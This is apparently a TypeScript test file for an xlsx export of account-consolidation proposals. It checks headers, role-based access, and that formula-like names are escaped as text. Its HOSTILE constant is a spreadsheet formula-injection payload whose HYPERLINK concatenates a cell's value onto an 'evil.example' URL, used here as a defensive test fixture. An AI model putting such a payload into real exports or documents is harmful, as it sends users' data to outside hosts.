import { afterAll, beforeAll, expect, test } from 'vitest';
import { exportHeads } from '../../../contracts/consolidation/words.ts';
import { readXlsx } from '../../documents/xlsx-read.ts';
import { openArchive } from '../../documents/zip-archive.ts';
import type { Actor } from '../../kernel/actor.ts';
import type { Runner } from '../../kernel/runner.ts';
import { must } from '../../kernel/testing-outcome.ts';
import type { Account } from '../accounts/index.ts';
import { createWorld, type World } from '../accounts/testing.ts';
import { plantAccount } from '../accounts/testing-matters.ts';
import { exportProposals } from './export-proposals.ts';
import type { Proposal } from './model.ts';
import { orderProposal } from './order-proposal.ts';
import { analyse, proposalsOf, wired } from './testing.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"点击")';

let world: World;
let runner: Runner;
let supervisor: Actor;
let main: Account;
beforeAll(async () => {
  world = await createWorld('2026-09-21');
  runner = wired(world);
  supervisor = await world.actor('wj-bg', '备案员');
  main = await plantAccount(world, 'wj-rs', { platform: 'weibo', name: HOSTILE, hostName: HOSTILE });
  await plantAccount(world, 'wj-rs', { platform: 'weibo', name: '吴江人社服务', hostName: HOSTILE });
  await analyse(runner, supervisor, main.jurisdiction);
});
afterAll(() => world.kernel.drop());

const EVERYTHING = { page: 1, size: 50 };
const exported = (who: Actor, query: object = {}) =>
  runner.query(who, (ctx) => exportProposals(ctx, { ...EVERYTHING, ...query }));

async function rowsOf(who: Actor, query: object = {}): Promise<readonly (readonly string[])[]> {
  const { content } = await exported(who, query);
  const read = await readXlsx(content as Buffer);
  if (!read.ok) throw new Error(read.reason);
  return (read.sheets[0]?.rows ?? []).map(({ cells }) => cells);
}

test('WJ-5 GD-3.2a what is proposed is taken away with its reasons, its basis and its area, under a name with the day', async () => {
  expect(await exported(supervisor)).toMatchObject({ name: '清理整合-2026-09-21.xlsx' });
  const [head, ...rows] = await rowsOf(supervisor, { kind: 'same-platform' });
  expect(head).toEqual(Object.values(exportHeads).map(({ header }) => header));
  expect(rows).toHaveLength(1);
  const [kind, host, accounts, reasons, basis, state] = rows[0] ?? [];
  expect([kind, host, state]).toEqual(['同一平台多个账号', main.hostName, '待处理']);
  expect(accounts).toContain('吴江人社服务（微博）');
  expect(reasons).toContain('有 2 个账号');
  expect(basis).toMatch(/第.+条/);
});

test('a name that looks like a formula stays a text, and reads as it was recorded', async () => {
  const { content } = await exported(supervisor, { kind: 'same-platform' });
  const sheet = (await openArchive(content as Buffer).read('xl/worksheets/sheet1.xml')).toString('utf8');
  expect(sheet).not.toContain('<f>');
  const quoted = [...sheet.matchAll(/<c r="([A-Z]+)2" s="3" t="inlineStr">.*?<t[^>]*>(.*?)<\/t>/g)];
  expect(quoted.map(([, column]) => column)).toContain('B');
  expect(quoted.every(([, , text]) => text?.startsWith('=HYPERLINK('))).toBe(true);
  const [, row] = await rowsOf(supervisor, { kind: 'same-platform' });
  expect(row?.[1]).toBe(HOSTILE);
  expect(row?.[2]).toContain(`${HOSTILE}（微博）`);
});

test('who oversees the area has all of it, a host what is ordered of it, a stranger nothing', async () => {
  const host = await world.actor('wj-rs', '经办人');
  const strangers = [await world.actor('fs-zs', '备案员'), await world.actor('qj-jt', '经办人')];
  expect(await rowsOf(host)).toHaveLength(1);
  const [proposal] = (await proposalsOf(runner, main.id)).filter(({ kind }) => kind === 'same-platform');
  const { jurisdiction, id, version } = proposal as Proposal;
  must(
    await runner.command(supervisor, (ctx) =>
      orderProposal(ctx, {
        jurisdiction,
        id,
        version,
        action: 'close',
        accountIds: [main.id],
        mainAccountId: null,
        termDays: 20,
        instruction: null,
      }),
    ),
  );
  const [, ...rows] = await rowsOf(host);
  expect(rows.map((row) => [row[5], row[6]])).toEqual([['正在办理', '关停']]);
  for (const stranger of strangers) expect(await rowsOf(stranger)).toHaveLength(1);
});
